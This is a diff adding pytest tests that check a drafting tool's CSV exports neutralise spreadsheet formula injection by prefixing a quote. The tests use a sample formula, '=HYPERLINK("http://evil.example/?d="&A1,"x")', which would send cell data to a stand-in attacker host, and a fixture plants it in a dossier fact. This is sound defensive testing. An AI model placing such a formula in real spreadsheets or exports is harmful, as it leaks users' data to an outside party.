@@ -13,13 +13,14 @@ from typer.testing import CliRunner
 from drafting.cli import app
 from drafting.kinds import KINDS
 from drafting.merge import column_choices, column_paths
-from evidence.csvio import MAX_CELL
+from evidence.csvio import MAX_CELL, safe_cell, to_csv
 from evidence.errors import UserError
 from tests.conftest import REPO
 
 runner = CliRunner()
 LETTER = REPO / "drafts" / "letter-to-childrens-commissioner.yaml"
 MOTION = REPO / "drafts" / "motion-childrens-commissioner-programme.yaml"
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
 
 
 def cli(*args: object, dossier: Path = REPO):
@@ -166,3 +167,59 @@ def test_the_bundled_recipients_still_merge(tmp_path):
     result, out = merge(tmp_path, (REPO / "drafts" / "recipients.csv").read_bytes())
     assert result.exit_code == 0, result.output
     assert len(list(out.iterdir())) == 3
+
+
+# --- writing CSV ---------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("value", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-",
+                                   "=1"])
+def test_a_would_be_formula_gets_a_leading_quote(value):
+    """OWASP's list: = + - @ tab CR."""
+    assert safe_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["-5", "+3.5", "-12%", "-1,234.5", "232", "Ofsted", "",
+                                   " =1", 7, None])
+def test_numbers_and_plain_text_are_left_alone(value):
+    """A negative number stays a number; text not starting a formula, and non-text, as is."""
+    assert safe_cell(value) == value
+
+
+def test_to_csv_round_trips_through_the_csv_module():
+    """What a spreadsheet would run comes back with one quote; the rest unchanged."""
+    text = to_csv(("a", "b"), [[FORMULA, "x,\n\"y\""], ["-5", None]])
+    assert list(csv.reader(io.StringIO(text))) == [
+        ["a", "b"], ["'" + FORMULA, "x,\n\"y\""], ["-5", ""]]
+
+
+@pytest.fixture
+def hostile_dossier(bundled_copy: Path) -> Path:
+    """The bundled dossier with a fact whose statement is a spreadsheet formula."""
+    facts = bundled_copy / "facts.yaml"
+    text = facts.read_text(encoding="utf-8")
+    old = ("statement: Ofsted judged Northamptonshire County Council's children's services "
+           "inadequate in 2013.")
+    assert old in text
+    facts.write_text(text.replace(old, "statement: '" + FORMULA.replace("'", "''") + "'"),
+                     encoding="utf-8")
+    return bundled_copy
+
+
+def test_the_facts_export_writes_no_formula(hostile_dossier, tmp_path):
+    """evidence export --format csv: the statement starts with ' in the file."""
+    out = tmp_path / "facts.csv"
+    result = cli("evidence", "export", "--format", "csv", "-o", out, dossier=hostile_dossier)
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
+    row = next(r for r in rows if r["fact"] == "ofsted-2013-inadequate")
+    assert row["statement"] == "'" + FORMULA
+    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
+
+
+def test_the_review_csv_writes_no_formula(hostile_dossier):
+    """review --format csv: the cited fact's statement starts with '."""
+    result = cli("review", LETTER, "--format", "csv", dossier=hostile_dossier)
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    row = next(r for r in rows if r["fact_id"] == "ofsted-2013-inadequate")
+    assert row["statement"] == "'" + FORMULA
+    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
